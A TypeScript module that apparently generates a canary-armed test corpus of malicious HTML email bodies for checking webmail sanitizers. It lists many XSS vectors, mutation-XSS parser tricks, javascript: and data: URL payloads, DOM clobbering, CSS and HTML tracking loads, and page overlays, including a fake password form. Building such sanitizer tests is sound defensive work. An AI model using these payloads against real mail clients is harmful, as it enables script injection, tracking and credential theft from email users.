// What letters have carried to run something, to load something, or to cover the page around them, by class of payload.
// RUN stands for script that tells the canary it ran, LOAD for an address of the canary; each vector has addresses of its own.
// The classes follow public advisories of webmail programs; the words are our own.

export interface Vector {
  /** Short, unique, fit for a path. */
  id: string;
  /** `script`: something runs. `fetch`: something is loaded. `cover`: something is drawn outside the letter's place. */
  aim: 'script' | 'fetch' | 'cover';
  /** The whole HTML part. */
  html: string;
}

type Templates = Record<string, string>;

/** Elements with a handler that fires without anybody's help. */
const handlers: Templates = {
  'img-error': '<img src="x:x" onerror="RUN">',
  'img-load': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="RUN">',
  'img-error-bare': '<img src=x:x onerror=RUN_BARE>',
  'img-error-slash': '<img/src=x:x/onerror=RUN_BARE>',
  'img-error-newline': '<img src=x:x\nonerror\n=\nRUN_BARE>',
  'img-error-case': '<ImG sRc=x:x OnErRoR=RUN_BARE>',
  'img-error-entity': '<img src=x:x onerror="&#x72;&#101;al=1;RUN">',
  'img-unclosed': '<img src=x:x onerror="RUN" ',
  'img-twice': '<img src=x:x src=y:y onerror="RUN" onerror="1">',
  'image-alias': '<image src=x:x onerror="RUN">',
  'svg-load': '<svg onload="RUN"></svg>',
  'svg-load-unclosed': '<svg/onload=RUN_BARE>',
  'svg-image': '<svg><image href="x:x" onerror="RUN"></image></svg>',
  'svg-style-load': '<svg><style onload="RUN"></style></svg>',
  'svg-script': '<svg><script>RUN</script></svg>',
  'svg-script-cdata': '<svg><script><![CDATA[RUN]]></script></svg>',
  'svg-foreign': '<svg><foreignObject><img src=x:x onerror="RUN"></foreignObject></svg>',
  'svg-title': '<svg><title><img src=x:x onerror="RUN"></title></svg>',
  'svg-desc': '<svg><desc><img src=x:x onerror="RUN"></desc></svg>',
  'svg-animate-begin': '<svg><animate onbegin="RUN" attributeName="x" dur="1s"/></svg>',
  'svg-set-begin': '<svg><set onbegin="RUN" attributeName="x" to="1"/></svg>',
  'svg-animatetransform': '<svg><animateTransform onbegin="RUN" attributeName="transform" dur="1s"/></svg>',
  'body-load': '<body onload="RUN">',
  'body-pageshow': '<body onpageshow="RUN">',
  'body-twice': 'hello<body onload="RUN">',
  'video-error': '<video onerror="RUN" src="x:x"></video>',
  'video-source': '<video><source onerror="RUN" src="x:x"></video>',
  'audio-error': '<audio onerror="RUN" src="x:x"></audio>',
  'details-toggle': '<details open ontoggle="RUN"><summary>x</summary></details>',
  'input-focus': '<input autofocus onfocus="RUN">',
  'select-focus': '<select autofocus onfocus="RUN"></select>',
  'textarea-focus': '<textarea autofocus onfocus="RUN"></textarea>',
  'button-focus': '<button autofocus onfocus="RUN">x</button>',
  'a-focus': '<a href="#" autofocus onfocus="RUN">x</a>',
  'div-focus': '<div tabindex=1 autofocus onfocus="RUN">x</div>',
  'style-animation': '<style>@keyframes x{}</style><b style="animation-name:x;animation-duration:1ms" onanimationstart="RUN">x</b>',
  'style-animation-end': '<style>@keyframes y{}</style><b style="animation-name:y;animation-duration:1ms" onanimationend="RUN">x</b>',
  'style-load': '<style onload="RUN"></style>',
  'link-load': '<link rel=stylesheet href="data:text/css," onload="RUN">',
  'link-error': '<link rel=stylesheet href="x:x" onerror="RUN">',
  'iframe-load': '<iframe onload="RUN"></iframe>',
  'iframe-srcdoc': '<iframe srcdoc="<script>parent.RUN_SOFT</script>"></iframe>',
  'iframe-srcdoc-entity': '<iframe srcdoc="&lt;img src=x:x onerror=&quot;RUN_ENTITY&quot;&gt;"></iframe>',
  'object-error': '<object data="x:x" onerror="RUN"></object>',
  'embed-load': '<embed src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="RUN">',
  'marquee-start': '<marquee onstart="RUN">x</marquee>',
  'meter-animation': '<style>@keyframes z{}</style><meter style="animation:z 1ms" onanimationstart="RUN"></meter>',
  'frameset': '<frameset onload="RUN"><frame></frameset>',
  'xmp-breakout': '<xmp></xmp><img src=x:x onerror="RUN">',
  'track-error': '<video><track default src="x:x" onerror="RUN"></video>',
  'unknown-element': '<x-y autofocus tabindex=1 onfocus="RUN">x</x-y>',
  'popover-toggle': '<div popover id=p onbeforetoggle="RUN">x</div><button autofocus popovertarget=p>x</button>',
  'content-visibility': '<div oncontentvisibilityautostatechange="RUN" style="display:block;content-visibility:auto">x</div>',
};

/** Scripts in their own right. */
const scripts: Templates = {
  plain: '<script>RUN</script>',
  typed: '<script type="text/javascript">RUN</script>',
  module: '<script type="module">RUN</script>',
  'data-src': '<script src="data:text/javascript,RUN_URL"></script>',
  'remote-src': '<script src="LOAD"></script>',
  nested: '<scr<script>ipt>RUN</scr</script>ipt>',
  'slash-end': '<script/x>RUN</script/x>',
  'open-end': '<script>RUN',
  upper: '<SCRIPT>RUN</SCRIPT>',
  'in-comment': '<!--><script>RUN</script>-->',
  'in-bang-comment': '<!--!><script>RUN</script>-->',
  'in-cdata': '<![CDATA[><script>RUN</script>]]>',
  'in-pi': '<?xml ><script>RUN</script>?>',
  'in-conditional': '<!--[if gte mso 9]><script>RUN</script><![endif]--><!--[if !mso]><!--><script>RUN</script><!--<![endif]-->',
  'after-title': '<title></title><script>RUN</script>',
  'after-textarea': '<textarea></textarea><script>RUN</script>',
  'after-noscript': '<noscript></noscript><script>RUN</script>',
  'in-template': '<template shadowrootmode=open><script>RUN</script></template>',
  'in-shadow': '<div><template shadowrootmode="open"><img src=x:x onerror="RUN"></template></div>',
  'in-math': '<math><mi><script>RUN</script></mi></math>',
  'importmap': '<script type="importmap">{"imports":{"x":"data:text/javascript,RUN_URL"}}</script><script type=module>import "x"</script>',
  'speculation': '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["LOAD"]}]}</script>',
};

/** Namespaces, raw text and depth: what a cleaner reads otherwise than a browser does. */
const confusions: Templates = {
  'mxss-style': '<svg></p><style><a id="</style><img src=x:x onerror=RUN_BARE>">',
  'mxss-noscript': '<noscript><p title="</noscript><img src=x:x onerror=RUN_BARE>">',
  'mxss-noembed': '<noembed><p title="</noembed><img src=x:x onerror=RUN_BARE>">',
  'mxss-noframes': '<noframes><p title="</noframes><img src=x:x onerror=RUN_BARE>">',
  'mxss-title': '<title><p title="</title><img src=x:x onerror=RUN_BARE>">',
  'mxss-textarea': '<textarea><p title="</textarea><img src=x:x onerror=RUN_BARE>">',
  'mxss-xmp': '<xmp><p title="</xmp><img src=x:x onerror=RUN_BARE>">',
  'mxss-iframe': '<iframe><p title="</iframe><img src=x:x onerror=RUN_BARE>">',
  'mxss-plaintext': '<svg><plaintext><img src=x:x onerror="RUN">',
  'mxss-math-mglyph': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x:x onerror=RUN_ENTITY&gt;">',
  'mxss-math-form': '<form><math><mtext></form><form><mglyph><style></math><img src=x:x onerror=RUN_BARE>',
  'mxss-math-annotation': '<math><annotation-xml encoding="text/html"><style><img src=x:x onerror="RUN"></style></annotation-xml></math>',
  'mxss-svg-desc-style': '<svg><desc><style><img src="</style><img src=x:x onerror=RUN_BARE>"></style></desc></svg>',
  'mxss-svg-p-style': '<svg><p><style><!--</style><img src=x:x onerror=RUN_BARE>--></style>',
  'mxss-select': '<select><template><style><!--</select><img src=x:x onerror=RUN_BARE>--></style>',
  'mxss-table': '<table><td><svg><style></table><img src=x:x onerror=RUN_BARE></style>',
  'mxss-font-p': '<p><svg><font color><style><img src=x:x onerror="RUN"></style></font></svg>',
  'mxss-attribute': '<a title="</a><img src=x:x onerror=RUN_BARE>" href="https://example.com">x</a>',
  'mxss-backtick': '<img src="x`:x" alt="``onerror=RUN_BARE ">',
  'mxss-listing': '<listing>&lt;img src=x:x onerror=RUN_BARE&gt;</listing>',
  'depth-600': `${'<div>'.repeat(600)}<svg><style><img src=x:x onerror="RUN"></style></svg>`,
  'depth-table': `${'<table><tr><td>'.repeat(150)}<img src=x:x onerror="RUN">`,
  'depth-font': `${'<font>'.repeat(500)}<math><mtext><img src=x:x onerror="RUN"></mtext></math>`,
  'formatting-adoption': '<a><p><b><i><a><img src=x:x onerror="RUN"></b></p></i></a>',
  'nul-in-tag': '<im\0g src=x:x onerror="RUN"><\0script>RUN</\0script><img\0 src=x:x onerror="RUN">',
  'eight-bit-blank': '<img\u00a0src=x:x onerror="RUN"><img src=x:x\u00a0onerror="RUN">',
  'utf7': '+ADw-script+AD4-RUN+ADw-/script+AD4-<meta charset=utf-7>',
  'meta-charset': '<meta http-equiv=content-type content="text/html;charset=iso-2022-jp"><img alt="\x1b$B" src=x:x onerror="RUN">',
  'double-encoded': '&lt;img src=x:x onerror=RUN_BARE&gt;&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;',
  'half-tag-end': 'text <img src=x:x onerror="RUN"',
  'bogus-doctype': '<!DOCTYPE x [<!ENTITY y "<img src=x:x onerror=RUN_BARE>">]>&y;',
  'clobber-id': '<form id=document><input name=cookie></form><img name=currentScript src=x:x onerror="RUN">',
  'clobber-attributes': '<form onfocus="RUN" tabindex=1 autofocus><input id=attributes></form>',
  'clobber-parent': '<form><input name=parentNode><img src=x:x onerror="RUN"></form>',
};

/** Addresses that are scripts, reached without a click. */
const addresses: Templates = {
  'meta-refresh-js': '<meta http-equiv="refresh" content="0;url=javascript:RUN_URL">',
  'meta-refresh-data': '<meta http-equiv="refresh" content="0;url=data:text/html,<script>RUN</script>">',
  'iframe-js': '<iframe src="javascript:RUN_URL"></iframe>',
  'iframe-js-entity': '<iframe src="java&#9;script:RUN_URL"></iframe>',
  'iframe-js-blank': '<iframe src=" &#1;javascript:RUN_URL"></iframe>',
  'iframe-data': '<iframe src="data:text/html,<script>RUN</script>"></iframe>',
  'iframe-blob': '<iframe src="blob:null/1" onload="RUN"></iframe>',
  'object-js': '<object data="javascript:RUN_URL"></object>',
  'object-data': '<object data="data:text/html,<script>RUN</script>" type="text/html"></object>',
  'embed-js': '<embed src="javascript:RUN_URL">',
  'embed-data': '<embed src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'RUN_SINGLE\'/>">',
  'svg-use-data': '<svg><use href="data:image/svg+xml,<svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'><image href=\'x:x\' onerror=\'RUN_SINGLE\'/></svg>#x"/></svg>',
  'svg-animate-href': '<svg><a><animate attributeName=href values="javascript:RUN_URL" fill="freeze"/><text y=20>x</text></a></svg>',
  'svg-set-href': '<svg><a href="#"><set attributeName="href" to="javascript:RUN_URL"/><text y=20>x</text></a></svg>',
  'svg-animate-style': '<svg><rect><animate attributeName="style" values="background:url(LOAD)"/></rect></svg>',
  'form-autosubmit': '<form action="javascript:RUN_URL"><input autofocus onfocus="this.form.submit()"></form>',
  'base-js': '<base href="javascript:/x/"><a href="RUN_URL" autofocus onfocus="this.click()">x</a>',
  'a-ping': '<a href="https://example.com" ping="LOAD" autofocus onfocus="this.click()">x</a>',
  'portal': '<portal src="javascript:RUN_URL"></portal>',
  'svg-handler': '<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">RUN</handler></svg>',
  'xslt': '<?xml-stylesheet type="text/xsl" href="data:text/xml,<x/>"?><svg onload="RUN"/>',
  'css-expression': '<div style="width:expression(RUN)">x</div><div style="behavior:url(LOAD)">x</div>',
  'css-js-url': '<div style="background:url(javascript:RUN_URL)">x</div>',
  'css-binding': '<div style="-moz-binding:url(LOAD#x)">x</div>',
};

/** What a browser loads by itself, in HTML. */
const loads: Templates = {
  'img-src': '<img src="LOAD">',
  'img-src-protocol': '<img src="LOAD_BARE">',
  'img-src-case': '<IMG SRC=LOAD>',
  'img-src-entity': '<img src="LOAD_ENTITY">',
  'img-src-tab': '<img src="LOAD_TAB">',
  'img-srcset': '<img srcset="LOAD 1x">',
  'img-srcset-many': '<img src="data:," srcset="data:, 1x, LOAD 2x, LOAD 3w" sizes="1px">',
  'img-lowsrc': '<img lowsrc="LOAD" dynsrc="LOAD" src="LOAD">',
  'img-lazy': '<img loading=lazy src="LOAD">',
  'img-crossorigin': '<img crossorigin src="LOAD">',
  'picture': '<picture><source srcset="LOAD"><img src="data:,"></picture>',
  'picture-media': '<picture><source media="(min-width:1px)" srcset="LOAD"><img></picture>',
  'image-alias': '<image src="LOAD">',
  'input-image': '<input type=image src="LOAD">',
  'video-src': '<video src="LOAD" autoplay></video>',
  'video-poster': '<video poster="LOAD"></video>',
  'video-source': '<video autoplay><source src="LOAD"></video>',
  'video-track': '<video autoplay src="data:video/mp4,"><track default src="LOAD"></video>',
  'audio-src': '<audio src="LOAD" autoplay></audio>',
  'audio-source': '<audio preload=auto><source src="LOAD"></audio>',
  'bgsound': '<bgsound src="LOAD"><img src="LOAD">',
  'body-background': '<body background="LOAD">',
  'table-background': '<table background="LOAD"><tr><td background="LOAD">x</table>',
  'td-background': '<table><tr><td background="LOAD">x</td></tr></table>',
  'iframe-src': '<iframe src="LOAD"></iframe>',
  'iframe-srcdoc': '<iframe srcdoc="<img src=LOAD>"></iframe>',
  'frame-src': '<frameset><frame src="LOAD"></frameset>',
  'object-data': '<object data="LOAD"></object>',
  'object-param': '<object type="text/html"><param name=movie value="LOAD"><img src="LOAD"></object>',
  'embed-src': '<embed src="LOAD">',
  'applet': '<applet codebase="LOAD" archive="LOAD"></applet><img src="LOAD">',
  'link-stylesheet': '<link rel=stylesheet href="LOAD">',
  'link-alternate': '<link rel="alternate stylesheet" href="LOAD">',
  'link-preload': '<link rel=preload as=image href="LOAD">',
  'link-prefetch': '<link rel=prefetch href="LOAD">',
  'link-modulepreload': '<link rel=modulepreload href="LOAD">',
  'link-icon': '<link rel=icon href="LOAD"><img src="LOAD">',
  'link-dns': '<link rel=dns-prefetch href="LOAD"><link rel=preconnect href="LOAD"><img src="LOAD">',
  'link-manifest': '<link rel=manifest href="LOAD"><img src="LOAD">',
  'meta-refresh': '<meta http-equiv=refresh content="0;url=LOAD">',
  'meta-refresh-quote': '<meta http-equiv=refresh content="0; URL=\'LOAD\'">',
  'meta-csp-report': '<meta http-equiv="Content-Security-Policy" content="img-src \'none\'; report-uri LOAD"><img src="LOAD">',
  'base-href': '<base href="LOAD_DIR"><img src="pixel.gif">',
  'svg-image': '<svg><image href="LOAD"/></svg>',
  'svg-image-xlink': '<svg><image xlink:href="LOAD"/></svg>',
  'svg-feimage': '<svg><filter id=f><feImage href="LOAD"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>',
  'svg-use': '<svg><use href="LOAD#x"/><image href="LOAD"/></svg>',
  'svg-style': '<svg><style>rect{fill:url(LOAD#x)}@import "LOAD";</style><rect width=9 height=9/></svg>',
  'svg-filter-url': '<svg><rect width=9 height=9 filter="url(LOAD#f)"/><image href="LOAD"/></svg>',
  'svg-mask': '<svg><rect width=9 height=9 style="mask:url(LOAD)"/></svg>',
  'svg-cursor': '<svg><image href="LOAD" style="cursor:url(LOAD),auto"/></svg>',
  'svg-script-href': '<svg><script href="LOAD"></script></svg>',
  'math-href': '<math href="LOAD"><mi>x</mi></math><img src="LOAD">',
  'script-src': '<script src="LOAD"></script>',
  'form-action': '<form action="LOAD"><input autofocus onfocus="this.form.submit()"></form>',
  'a-prefetch': '<a href="LOAD" rel="prefetch">x</a><img src="LOAD">',
  'noscript-img': '<noscript><img src="LOAD"></noscript><img src="LOAD">',
  'comment-img': '<!--[if mso]><img src="LOAD"><![endif]--><!--[if !mso]><!--><img src="LOAD"><!--<![endif]-->',
  'vml': '<v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill src="LOAD"/></v:rect><img src="LOAD">',
  'two-pixels': '<img width=1 height=1 src="LOAD"><img style="display:none" src="LOAD">',
  'cite': '<blockquote cite="LOAD">x</blockquote><q cite="LOAD">y</q><img longdesc="LOAD" usemap="LOAD" src="LOAD">',
  'template-shadow': '<div><template shadowrootmode=open><img src="LOAD"></template></div>',
};

/** What a browser loads by itself, in style sheets. `STYLE` vectors stand in an attribute, the others in an element. */
const styles: Templates = {
  'background': 'background:url(LOAD)',
  'background-quote': 'background:url("LOAD")',
  'background-case': 'BACKGROUND:URL(LOAD)',
  'background-escape': 'background:\\75 rl(LOAD)',
  'background-escape-2': 'b\\61 ckground:\\000075\\000072\\00006c(LOAD)',
  'background-comment': 'background:/**/url(/**/LOAD)',
  'background-comment-2': 'background/**/:url(LOAD)',
  'background-space': 'background:url( LOAD )',
  'background-image': 'background-image:url(LOAD)',
  'background-many': 'background:url(data:,),url(LOAD)',
  'background-important': 'background:url(LOAD)!important',
  'background-unclosed': 'background:url(LOAD',
  'background-unclosed-quote': 'background:url("LOAD',
  'background-newline': 'background:url(LOAD\n)',
  'background-semicolon': 'color:red;;;background:url(LOAD);;',
  'background-entity': 'background:ur&#108;(LOAD)',
  'image-set': 'background-image:image-set(url(LOAD) 1x)',
  'image-set-string': 'background-image:image-set("LOAD" 1x)',
  'webkit-image-set': 'background-image:-webkit-image-set(url(LOAD) 1x)',
  'cross-fade': 'background-image:-webkit-cross-fade(url(LOAD),url(LOAD),50%)',
  'list-style': 'display:list-item;list-style:url(LOAD)',
  'list-style-image': 'display:list-item;list-style-image:url(LOAD)',
  'border-image': 'border:1px solid;border-image:url(LOAD) 1',
  'border-image-source': 'border:1px solid;border-image-source:url(LOAD)',
  'mask': 'mask:url(LOAD)',
  'mask-image': '-webkit-mask-image:url(LOAD)',
  'mask-box': '-webkit-mask-box-image:url(LOAD)',
  'cursor': 'cursor:url(LOAD),auto;background:url(LOAD)',
  'content': 'content:url(LOAD)',
  'shape': 'float:left;shape-outside:url(LOAD)',
  'filter': 'filter:url(LOAD#x);background:url(LOAD)',
  'clip-path': 'clip-path:url(LOAD#x);background:url(LOAD)',
  'offset-path': 'offset-path:url(LOAD#x);background:url(LOAD)',
  'var': '--x:url(LOAD);background:var(--x)',
  'var-fallback': 'background:var(--none,url(LOAD))',
  'custom-nested': '--a:url(LOAD);--b:var(--a);background:var(--b)',
};

const sheets: Templates = {
  'import': '@import "LOAD";',
  'import-url': '@import url(LOAD);',
  'import-escape': '@\\69mport "LOAD";',
  'import-comment': '@import/**/"LOAD";',
  'import-layer': '@import url(LOAD) layer(x) supports(display:block);',
  'import-charset': '@charset "utf-8";@import "LOAD";',
  'font-face': '@font-face{font-family:x;src:url(LOAD)}body{font-family:x}',
  'font-face-local': '@font-face{font-family:x;src:local("none"),url(LOAD)}p{font-family:x}',
  'selector': 'p{background:url(LOAD)}',
  'selector-attribute': 'p[class^="a"]{background:url(LOAD)}',
  'selector-before': 'p::before{content:url(LOAD)}',
  'selector-after': 'p::after{content:"x";background:url(LOAD)}',
  'selector-root': ':root{background:url(LOAD)}html{background:url(LOAD)}',
  'media': '@media all{p{background:url(LOAD)}}',
  'media-width': '@media (min-width:1px){body{background:url(LOAD)}}',
  'supports': '@supports (display:block){p{background:url(LOAD)}}',
  'layer': '@layer x{p{background:url(LOAD)}}',
  'container': 'body{container-type:inline-size}@container (min-width:1px){p{background:url(LOAD)}}',
  'nesting': 'body{& p{background:url(LOAD)}}',
  'counter-style': '@counter-style x{system:cyclic;symbols:url(LOAD)}p{display:list-item;list-style:x;background:url(LOAD)}',
  'property': '@property --x{syntax:"<image>";inherits:false;initial-value:url(LOAD)}p{--x:url(LOAD);background:var(--x)}',
  'keyframes': '@keyframes k{to{background:url(LOAD)}}p{animation:k 1ms forwards}',
  'page': '@page{background:url(LOAD)}p{background:url(LOAD)}',
  'scope': '@scope (body){p{background:url(LOAD)}}',
  'starting': 'p{transition:opacity 1ms}@starting-style{p{background:url(LOAD)}}p{background:url(LOAD)}',
  'html-comment': '<!-- p{background:url(LOAD)} -->',
  'unclosed': 'p{background:url(LOAD)',
  'namespace': '@namespace x url(LOAD);p{background:url(LOAD)}',
};

/** What would draw over the page around the letter, take the page elsewhere, or ask for a password in its place. */
const covers: Templates = {
  fixed: '<div style="position:fixed!important;inset:0;z-index:2147483647;background:red">COVER</div>',
  absolute: '<div style="position:absolute;top:-500px;left:-500px;width:5000px;height:5000px;z-index:99999;background:red">COVER</div>',
  sheet: '<style>body{position:fixed!important;inset:-900px!important}div{position:fixed;inset:0}</style><div>COVER</div>',
  dialog: '<dialog open style="position:fixed;inset:0;width:100vw;height:100vh">COVER</dialog>',
  popover: '<div popover=manual style="position:fixed;inset:0">COVER</div>',
  form: '<form action="LOAD" method=post><input name=password type=password autofocus><button autofocus>Sign in</button></form>',
  'meta-top': '<meta http-equiv="refresh" content="0;url=LOAD"><base target="_top">',
  'link-top': '<a href="LOAD" target="_top" autofocus>COVER</a><base target=_parent>',
  'huge-picture': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width=9000 height=9000 style="position:fixed;top:-100px">COVER',
  negative: '<div style="margin:-2000px;width:9000px;height:9000px;background:red;transform:scale(9) translate(-400px,-400px)">COVER</div>',
};

/** All of them, each a document of its own. */
export function vectors(): Vector[] {
  const all: Vector[] = [];
  const add = (aim: Vector['aim'], group: string, templates: Templates, wrap: (body: string) => string) => {
    for (const [name, body] of Object.entries(templates)) all.push({ id: `${group}-${name}`, aim, html: wrap(body) });
  };
  const page = (body: string) => `<p class="abc">Dear Ada,</p>${body}<p>Kind regards</p>`;
  add('script', 'handler', handlers, page);
  add('script', 'script', scripts, page);
  add('script', 'confusion', confusions, page);
  add('script', 'address', addresses, page);
  add('fetch', 'load', loads, page);
  add('fetch', 'style', styles, (body) => page(`<div style='${body}'>x</div>`));
  add('fetch', 'style-list', styles, (body) => page(`<ul><li style='${body}'>x</li></ul>`));
  add('fetch', 'sheet', sheets, (body) => `<head><style>${body}</style></head><body><p class="abc">Dear Ada</p></body>`);
  add('fetch', 'sheet-body', sheets, (body) => page(`<style type="text/css">${body}</style><p class="abc">x</p>`));
  add('cover', 'cover', covers, page);
  return all;
}

/** The vector as it goes into a letter: with script that reports to the canary and addresses of the canary. */
export function armed(vector: Vector, canary: string): string {
  const ran = `${canary}/ran/${vector.id}`;
  const loaded = `${canary}/loaded/${vector.id}`;
  const run = `new Image().src='${ran}'`;
  const entity = (text: string) => [...text].map((c) => `&#${c.codePointAt(0)};`).join('');
  return vector.html
    .replaceAll('RUN_BARE', `(new(Image)).src='${ran}'`)
    .replaceAll('RUN_ENTITY', entity(`(new(Image)).src='${ran}'`))
    .replaceAll('RUN_SINGLE', `(new(Image)).src="${ran}"`)
    .replaceAll('RUN_SOFT', `eval("(new(Image)).src='${ran}'")`)
    .replaceAll('RUN_URL', `void((new(Image)).src='${ran}')`)
    .replaceAll('RUN', run)
    .replaceAll('LOAD_BARE', loaded.replace(/^http:/, ''))
    .replaceAll('LOAD_ENTITY', entity(loaded))
    .replaceAll('LOAD_TAB', loaded.replace('http:', 'ht\ttp:').replace('/loaded', '/\nloaded'))
    .replaceAll('LOAD_DIR', `${loaded}/`)
    .replaceAll('LOAD', loaded);
}
